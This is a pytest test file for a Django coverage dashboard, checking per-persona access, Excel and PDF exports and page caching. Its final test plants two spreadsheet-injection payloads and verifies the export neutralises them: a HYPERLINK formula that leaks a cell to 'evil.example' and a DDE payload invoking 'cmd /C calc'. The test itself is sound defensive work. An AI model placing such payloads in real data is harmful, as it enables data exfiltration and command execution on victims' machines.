"""The dashboard pages and the Excel and PDF exports, per persona, on ``conftest.province``."""

from __future__ import annotations

import re
from datetime import date
from io import BytesIO
from typing import Any

from django.conf import settings
from django.test import Client
from openpyxl import load_workbook

from jamsostek.core.spreadsheet import FORMULA_STARTS
from jamsostek.coverage.services import denominator_set
from jamsostek.registry.models import Region
from tests.conftest import Personas
from tests.coverage.conftest import REGENCIES

API = "/api/coverage"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik di sini")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def client_for(user: object, language: str = "en") -> Client:
    client = Client()
    client.force_login(user)  # type: ignore[arg-type]
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
    return client


def pages(pdf: bytes) -> int:
    """The page objects of a PDF (``/Type /Page``, not the ``/Type /Pages`` tree nodes)."""
    assert pdf.startswith(b"%PDF-")
    return len(re.findall(rb"/Type\s*/Page(?![a-zA-Z])", pdf))


def test_the_dashboard_is_the_province_page_for_a_province_wide_role(province: None, personas: Personas) -> None:
    for user in (personas.analyst, personas.bpjs, personas.admin):
        response = client_for(user).get("/coverage/")
        assert response.status_code == 200, user
    html = client_for(personas.analyst).get("/coverage/").content.decode()
    assert "11.55" in html  # the province's UCJ in March
    assert "<svg" in html


def test_a_regency_officer_is_sent_to_their_regency_page(province: None, personas: Personas) -> None:
    client = client_for(personas.ketapang)
    response = client.get("/coverage/")
    assert response.status_code == 302
    assert response["Location"] == "/coverage/61.04/"
    page = client.get("/coverage/61.04/")
    assert page.status_code == 200
    assert "13.00" in page.content.decode()  # Ketapang's UCJ in March
    assert client.get("/coverage/61.01/").status_code == 403
    assert client.get("/coverage/61.99/").status_code == 404


def test_an_agency_administrator_gets_no_dashboard(province: None, personas: Personas) -> None:
    client = client_for(personas.agency)
    assert client.get("/coverage/").status_code == 403
    assert client.get("/coverage/61.04/").status_code == 403
    assert client.get("/coverage/export.xlsx").status_code == 403
    assert client.get("/coverage/report.pdf").status_code == 403


def test_the_pages_need_login(province: None) -> None:
    response = Client().get("/coverage/")
    assert response.status_code == 302
    assert response["Location"].startswith("/login/")


def _summary(sheet: Any) -> dict[str, Any]:
    return {row[0]: row[1] for row in sheet.iter_rows(min_row=3, max_col=2, values_only=True) if row[0]}


def test_the_workbook_has_the_numbers_of_the_api(province: None, personas: Personas) -> None:
    client = client_for(personas.analyst)
    response = client.get("/coverage/export.xlsx", {"month": "2025-02"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="ucj-61-2025-02.xlsx"'
    book = load_workbook(BytesIO(response.content))
    assert book.sheetnames == ["Summary", "Regencies", "Districts", "Trend", "Sources"]
    summary = client.get(API + "/summary", {"month": "2025-02"}).json()

    headline = _summary(book["Summary"])
    assert headline["Month"] == "2025-02"
    assert headline["Protected participants"] == summary["participants"] == 2240
    assert headline["UCJ (%)"] == float(summary["ucj"]) == 11.20
    assert headline["Gap (workers)"] == summary["gap"] == 11_912 - 2240
    assert headline["Workers (denominator)"] == 20_000
    assert headline["Cost of closing the gap, per year (Rp)"] == summary["closing"]["total"]

    rows = list(book["Regencies"].iter_rows(values_only=True))
    header = rows[0]
    column = {name: header.index(name) for name in ("Rank", "Code", "Protected participants", "UCJ (%)",
                                                     "Gap (workers)")}  # fmt: skip
    sheet = {row[column["Code"]]: row for row in rows[1:]}
    assert sorted(sheet) == list(REGENCIES)
    for child in summary["children"]:
        row = sheet[child["region"]]
        assert row[column["Protected participants"]] == child["participants"], child["region"]
        assert row[column["UCJ (%)"]] == (None if child["ucj"] is None else float(child["ucj"])), child["region"]
        assert row[column["Gap (workers)"]] == child["gap"], child["region"]
        assert row[column["Rank"]] == child["rank"], child["region"]
    assert sheet["61.04"][column["UCJ (%)"]] == 12.50  # 125 / 1,000 in February
    assert sheet["61.11"][column["UCJ (%)"]] is None


def test_a_regency_officer_exports_only_their_regency(province: None, personas: Personas) -> None:
    client = client_for(personas.ketapang)
    book = load_workbook(BytesIO(client.get("/coverage/export.xlsx").content))
    assert "Regencies" not in book.sheetnames
    headline = _summary(book["Summary"])
    assert (headline["Protected participants"], headline["UCJ (%)"]) == (130, 13.00)
    districts = [row[1] for row in book["Districts"].iter_rows(min_row=2, values_only=True)]
    assert len(districts) == 20
    assert all(code.startswith("61.04.") for code in districts)
    rows = list(book["Sources"].iter_rows(values_only=True))
    split = rows.index((None,) * len(rows[0]))  # denominators, a blank row, then targets
    assert [(row[0], row[3]) for row in rows[1:split]] == [("61.04", 1000)]  # not another regency's
    assert [(row[0], row[1], row[2]) for row in rows[split + 2 :]] == [("61", 2025, 59.56)]  # not Kubu Raya's


def test_the_province_report_has_a_province_page_and_one_page_per_regency(province: None, personas: Personas) -> None:
    response = client_for(personas.analyst).get("/coverage/report.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert pages(response.content) == 1 + 14


def test_a_regency_officer_gets_a_one_page_report(province: None, personas: Personas) -> None:
    response = client_for(personas.ketapang).get("/coverage/report.pdf")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="ucj-61.04-2025-03.pdf"'
    assert pages(response.content) == 1


def test_an_export_before_any_computation_is_not_found(db: Any, personas: Personas) -> None:
    client = client_for(personas.analyst)
    assert client.get("/coverage/").status_code == 200  # the dashboard says nothing is computed yet
    assert client.get("/coverage/export.xlsx").status_code == 404
    assert client.get("/coverage/report.pdf").status_code == 404


def test_a_kept_page_section_follows_the_data_the_language_and_the_reader(province: None, personas: Personas) -> None:
    """The pages' sections are rendered once and kept while the data is unchanged (``coverage.kept``):
    a changed denominator shows on the next view, each language has its own, and access is checked
    on every request, before a kept section is given."""
    from jamsostek.coverage.models import Denominator

    officer = client_for(personas.ketapang)
    assert "13.00" in officer.get("/coverage/61.04/").content.decode()
    kept = officer.get("/coverage/61.04/").content.decode()
    assert "13.00" in kept
    assert "← Kalimantan Barat" not in kept  # the officer may not see the province

    analyst = client_for(personas.analyst).get("/coverage/61.04/").content.decode()
    assert "← Kalimantan Barat" in analyst  # same path, another reader: not the officer's section
    assert client_for(personas.sambas).get("/coverage/61.04/").status_code == 403  # kept, yet refused

    row = Denominator.objects.get(region_id="61.04")
    row.value = 2000
    row.save()
    assert "6.50" in officer.get("/coverage/61.04/").content.decode()  # 130 / 2,000

    indonesian = client_for(personas.ketapang, "id").get("/coverage/61.04/").content.decode()
    assert "6,50" in indonesian
    assert "Kecamatan" in indonesian
    assert "Kecamatan" not in officer.get("/coverage/61.04/").content.decode()


def test_a_registered_panel_shows_below_the_figures_for_the_region_and_month(
    province: None, personas: Personas
) -> None:
    """Other apps add panels to the coverage pages through ``coverage.panels`` (coverage imports none
    of them); a panel gets the region and month shown, and an empty answer shows nothing."""
    from jamsostek.coverage import panels

    seen: list[tuple[str, str | None]] = []

    def panel(request: object, *, region: str, month: object) -> str:
        seen.append((region, str(month) if month else None))
        return f'<section id="test-panel">{region}</section>' if region != "61.01" else ""

    panels.register("test-panel", panel)
    try:
        body = client_for(personas.analyst).get("/coverage/").content.decode()
        assert '<section id="test-panel">61</section>' in body
        body = client_for(personas.ketapang).get("/coverage/61.04/").content.decode()
        assert '<section id="test-panel">61.04</section>' in body
        body = client_for(personas.analyst).get("/coverage/61.01/").content.decode()
        assert "test-panel" not in body
        assert seen == [("61", "2025-03"), ("61.04", "2025-03"), ("61.01", "2025-03")]
    finally:
        panels.unregister("test-panel")


def test_the_workbook_shows_hostile_text_as_text_and_numbers_as_numbers(province: None, personas: Personas) -> None:
    denominator_set(actor=personas.admin, region="61.04", kind="employed", period=date(2024, 8, 1), value=1000,
                    source=LINK, is_estimate=True, method=SUM, reason="test")  # fmt: skip
    Region.objects.filter(code="61.04").update(name="-Ketapang+")  # as if a name came in that way
    client = client_for(personas.analyst)
    book = load_workbook(BytesIO(client.get("/coverage/export.xlsx").content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula anywhere
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert {"'" + LINK, "'" + SUM, "'-Ketapang+"} <= texts
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]
    regencies = {row[1]: row for row in book["Regencies"].iter_rows(min_row=2, values_only=True)}
    assert regencies["61.04"][2] == "'-Ketapang+"
    assert regencies["61.04"][3:7] == (130, 1000, "yes", 13)  # participants, workers, estimate, UCJ: still numbers
